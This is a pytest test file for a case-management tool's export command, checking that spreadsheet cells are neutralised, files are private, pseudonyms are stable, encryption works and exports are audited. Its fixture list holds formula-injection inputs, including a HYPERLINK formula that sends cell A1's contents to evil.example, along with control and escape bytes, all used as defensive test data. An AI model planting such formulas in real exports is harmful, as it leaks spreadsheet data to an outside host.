"""`wegwijzer export`: safe cells, xlsx, pseudonyms, encryption, private files and the audit.

A tester found a family's message starting with `=HYPERLINK(` exported verbatim into the CSV,
with raw control bytes, and the file world-readable. Here the answers are put straight into
the database (invented values, the hostile ones as a family could type them) and read back
through the command line as an operator would.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import pyzipper
from openpyxl import load_workbook

from bot.services.export import COLUMNS, TITLES, safe_text
from bot.storage import Database
from tests.conftest import TEST_KEYRING, shipped_assets

from .cli import Ran, wegwijzer

T0 = datetime(2026, 11, 27, 9, 30, tzinfo=UTC)
PASSWORD = "correct horse battery staple"

# What families typed into the check-in's free-text question, one per run.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"Klik")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tverborgen",
    "Bel me\x00 aub\x1b[31m\r\nmorgen\x85 of\x7f overmorgen",
]
NEUTRALISED = [
    '\'=HYPERLINK("https://evil.example/?"&A1;"Klik")',
    "'+1",
    "'-2+3",
    "'@SUM(A1:A9)",
    "'\tverborgen",
    "Bel me aub[31m\nmorgen of overmorgen",
]


@pytest.fixture
def database(tmp_path: Path) -> Path:
    """Two cases: check-ins with hostile messages on the first, a home visit on the second."""
    path = tmp_path / "export.db"
    assert wegwijzer(path, "db", "upgrade").returncode == 0
    asyncio.run(_fill(path))
    return path


async def _fill(path: Path) -> None:
    database = Database.connect(f"sqlite:///{path}")
    try:
        async with database.transaction() as uow:
            person = await uow.people.add("telegram", "10001", "family")
            first = await uow.cases.add("TST-0001", "family_strengthening")
            second = await uow.cases.add("TST-0002", "foster_care")
            at = T0
            for message in HOSTILE:
                run = await uow.runs.start(person.id, first.id, "family_checkin", 2, "s", {}, at)
                await uow.answers.record(run.id, "who5.cheerful", 4, "s", at)
                await uow.answers.record(run.id, "children.food", "enough", "s", at)
                await uow.answers.record(run.id, "caseworker.message", message, "s", at)
                # Not a question of the flow (an older version's, say): a number stays one.
                await uow.answers.record(run.id, "children.count", -2, "s", at)
                await uow.scores.record(run.id, "who5_raw", 14, at)
                at += timedelta(hours=1)
            visit = await uow.runs.start(person.id, second.id, "home_visit", 2, "s", {}, at)
            await uow.answers.record(visit.id, "visit.wants_note", True, "s", at)
            await uow.answers.record(visit.id, "visit.note", "=1+1 is geen som", "s", at)
    finally:
        await database.dispose()


ROWS = len(HOSTILE) * 4 + 2


def export(database: Path, *args: str, password: str | None = None) -> Ran:
    env = {} if password is None else {"EXPORT_PASSWORD": password}
    return wegwijzer(database, "export", *args, env=env)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def messages(rows: list[dict[str, Any]]) -> list[Any]:
    return [row["value"] for row in rows if row["key"] == "caseworker.message"]


# --- the cells ----------------------------------------------------------------------------


@pytest.mark.parametrize(("typed", "safe"), list(zip(HOSTILE, NEUTRALISED, strict=True)))
def test_safe_text_for_a_spreadsheet(typed: str, safe: str) -> None:
    assert safe_text(typed, spreadsheet=True) == safe


def test_safe_text_keeps_what_is_harmless() -> None:
    for text in ("Gaat goed", "2+3", "a=b", "ok -", "سلام\u200f!", "regel 1\nregel 2", ""):
        assert safe_text(text, spreadsheet=True) == text
    # Outside a spreadsheet only the control characters go.
    assert safe_text("=1+1\x07", spreadsheet=False) == "=1+1"


def test_csv_cells_are_neutralised_and_the_file_is_private(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "answers.csv"
    output.write_text("old, readable by all")
    output.chmod(0o644)
    done = export(database, "--format", "csv", "--output", str(output))
    assert done.returncode == 0, done.stderr
    assert mode(output) == 0o600
    text = output.read_text(encoding="utf-8")
    assert not any((ord(c) < 32 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F for c in text)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == ROWS
    assert messages(rows) == NEUTRALISED
    assert {row["value"] for row in rows if row["key"] == "who5.cheerful"} == {"4"}
    assert {row["value"] for row in rows if row["key"] == "children.count"} == {"-2"}
    (note,) = [row for row in rows if row["key"] == "visit.note"]
    assert note["value"] == "'=1+1 is geen som"
    assert json.loads(rows[0]["scores"]) == {"who5_raw": 14}


def test_json_loses_the_control_characters_and_keeps_the_text(database: Path) -> None:
    done = export(database, "--format", "json")
    assert done.returncode == 0, done.stderr
    rows = json.loads(done.stdout)
    # A program reads these as strings; what it pastes into a sheet it must escape itself.
    assert messages(rows) == [*HOSTILE[:5], "Bel me aub[31m\nmorgen of overmorgen"]


# --- xlsx ---------------------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_flow_with_titles_in_the_language(
    database: Path, tmp_path: Path
) -> None:
    output = tmp_path / "answers.xlsx"
    done = export(database, "--format", "xlsx", "--lang", "nl", "--output", str(output))
    assert done.returncode == 0, done.stderr
    assert mode(output) == 0o600
    book = load_workbook(output)
    assert book.sheetnames == ["family_checkin", "home_visit"]
    nl = shipped_assets().catalogs.translator("nl")
    checkin = [[cell.value for cell in row] for row in book["family_checkin"].iter_rows()]
    titles = checkin[0]
    assert titles == [nl.gettext(TITLES[column].msgid) for column in COLUMNS]
    assert len(checkin) == 1 + len(HOSTILE) * 4
    assert len(list(book["home_visit"].iter_rows())) == 1 + 2
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in checkin[1:]]
    assert messages(rows) == NEUTRALISED
    # Numbers stay numbers, times are real times (in UTC, as the title says).
    assert {row["value"] for row in rows if row["key"] == "who5.cheerful"} == {4}
    assert {row["value"] for row in rows if row["key"] == "children.count"} == {-2}
    assert rows[0]["answered_at"] == T0.replace(tzinfo=None)
    assert rows[0]["case_code"] == "TST-0001" and rows[0]["flow_version"] == 2
    formula = book["family_checkin"].cell(row=4, column=COLUMNS.index("value") + 1)
    assert formula.data_type == "s"  # a text, never a formula

    english = tmp_path / "en.xlsx"
    assert (
        export(database, "--format", "xlsx", "--lang", "en", "--output", str(english)).returncode
        == 0
    )
    first = next(load_workbook(english)["home_visit"].iter_rows(values_only=True))
    assert first[COLUMNS.index("answered_at")] == "Answered at (UTC)"
    assert first[COLUMNS.index("case_code")] == "Case"


def test_xlsx_and_encryption_need_a_file_and_lang_is_for_xlsx(database: Path) -> None:
    to_stdout = export(database, "--format", "xlsx")
    assert to_stdout.returncode == 2 and "--output" in to_stdout.stderr
    encrypted = export(database, "--format", "csv", "--encrypt", password=PASSWORD)
    assert encrypted.returncode == 2 and "--output" in encrypted.stderr
    lang = export(database, "--format", "csv", "--lang", "nl")
    assert lang.returncode == 2 and "xlsx" in lang.stderr


def test_an_unknown_language_writes_nothing(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "x.xlsx"
    done = export(database, "--format", "xlsx", "--lang", "xx", "--output", str(output))
    assert done.returncode == 2 and "xx" in done.stderr
    assert not output.exists()
    audit = json.loads(wegwijzer(database, "audit", "--json").stdout)
    assert [entry for entry in audit if entry["action"].startswith("export")] == []


# --- pseudonymised ------------------------------------------------------------------------


def test_pseudonyms_are_stable_keyed_and_free_text_is_left_out(database: Path) -> None:
    first = json.loads(export(database, "--pseudonymise").stdout)
    second = json.loads(export(database, "--pseudonymise").stdout)
    assert first == second  # the same pseudonyms in every export
    plain = json.loads(export(database).stdout)
    assert len(first) == len(plain) == ROWS

    cases = {row["case_code"] for row in first}
    assert cases == {TEST_KEYRING.pseudonym("case", code) for code in ("TST-0001", "TST-0002")}
    assert len(cases) == 2 and all(code.startswith("C-") for code in cases)
    assert not cases & {row["case_code"] for row in plain}
    runs = {row["run_id"] for row in first}
    assert len(runs) == len(HOSTILE) + 1 and all(run.startswith("R-") for run in runs)
    assert not runs & {str(row["run_id"]) for row in plain}

    typed = [row for row in first if row["key"] in ("caseworker.message", "visit.note")]
    assert len(typed) == len(HOSTILE) + 1
    assert all(row["value"] is None and row["dropped"] == "free text" for row in typed)
    kept = {row["key"]: row["value"] for row in first if row["dropped"] is None}
    assert kept == {
        "who5.cheerful": 4,
        "children.food": "enough",
        "children.count": -2,
        "visit.wants_note": True,
    }
    assert "HYPERLINK" not in json.dumps(first) and "geen som" not in json.dumps(first)


def test_pseudonymised_times_are_the_utc_day_only(database: Path, tmp_path: Path) -> None:
    # To the microsecond, beside stable pseudonyms, a time would say who answered.
    rows = json.loads(export(database, "--pseudonymise").stdout)
    # Every answer was given between 09:30 and 15:30 UTC on 27 November 2026.
    assert {row["answered_at"] for row in rows} == {"2026-11-27"}
    plain = json.loads(export(database).stdout)
    assert plain[0]["answered_at"] == T0.isoformat()  # without --pseudonymise: the time

    csv_rows = list(
        csv.DictReader(io.StringIO(export(database, "--format", "csv", "--pseudonymise").stdout))
    )
    assert {row["answered_at"] for row in csv_rows} == {"2026-11-27"}

    output = tmp_path / "research.xlsx"
    done = export(database, "--format", "xlsx", "--pseudonymise", "--output", str(output))
    assert done.returncode == 0, done.stderr
    sheet = load_workbook(output)["family_checkin"]
    times = {
        row[COLUMNS.index("answered_at")] for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert times == {datetime(2026, 11, 27)}  # a date cell: midnight, no time of day
    cell = sheet.cell(row=2, column=COLUMNS.index("answered_at") + 1)
    assert cell.is_date and "h" not in cell.number_format


def test_pseudonymised_csv_has_the_dropped_column(database: Path) -> None:
    done = export(database, "--format", "csv", "--pseudonymise")
    rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    assert list(rows[0]) == [*COLUMNS, "dropped"]
    assert {row["value"] for row in rows if row["dropped"] == "free text"} == {"null"}


# --- encrypted ----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_an_encrypted_export_opens_with_the_password_only(
    database: Path, tmp_path: Path, fmt: str
) -> None:
    output = tmp_path / "answers.zip"
    done = export(
        database, "--format", fmt, "--encrypt", "--output", str(output), password=PASSWORD
    )
    assert done.returncode == 0, done.stderr
    assert mode(output) == 0o600
    assert b"HYPERLINK" not in output.read_bytes() and b"TST-0001" not in output.read_bytes()
    with pyzipper.AESZipFile(output) as archive:
        assert archive.namelist() == [f"answers.{fmt}"]
        with pytest.raises(RuntimeError, match="password"):
            archive.read(f"answers.{fmt}")
        archive.setpassword(b"wrong password!")
        with pytest.raises(RuntimeError, match=r"[Bb]ad password"):
            archive.read(f"answers.{fmt}")
        archive.setpassword(PASSWORD.encode())
        content = archive.read(f"answers.{fmt}")
    if fmt == "csv":
        assert messages(list(csv.DictReader(io.StringIO(content.decode(), newline="")))) == (
            NEUTRALISED
        )
    elif fmt == "json":
        assert len(json.loads(content)) == ROWS
    else:
        assert load_workbook(io.BytesIO(content)).sheetnames == ["family_checkin", "home_visit"]


def test_encryption_needs_a_good_password(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "answers.zip"
    assert "EXPORT_PASSWORD" not in os.environ
    missing = export(database, "--encrypt", "--output", str(output))
    assert missing.returncode == 2 and "EXPORT_PASSWORD" in missing.stderr
    short = export(database, "--encrypt", "--output", str(output), password="kort")
    assert short.returncode == 2 and "at least 12" in short.stderr
    assert not output.exists()


# --- the audit ----------------------------------------------------------------------------


def test_every_export_is_audited_with_what_and_how_many_rows(
    database: Path, tmp_path: Path
) -> None:
    output = tmp_path / "answers.zip"
    args = ("--format", "xlsx", "--lang", "nl", "--pseudonymise", "--encrypt")
    done = export(database, *args, "--output", str(output), password=PASSWORD)
    assert done.returncode == 0, done.stderr
    assert f"{ROWS} answer(s) exported" in done.stderr
    audit = json.loads(wegwijzer(database, "audit", "--json").stdout)
    started, finished = [entry for entry in audit if entry["action"].startswith("export")]
    assert (started["action"], finished["action"]) == ("exported", "export_finished")
    assert started["actor_role"] == finished["actor_role"] == "operator"
    what = {
        "format": "xlsx",
        "since": None,
        "pseudonymised": True,
        "encrypted": True,
        "lang": "nl",
    }
    assert started["detail"].items() >= what.items() and "rows" not in started["detail"]
    assert finished["detail"] == {**started["detail"], "rows": ROWS}
    assert PASSWORD not in json.dumps(audit)
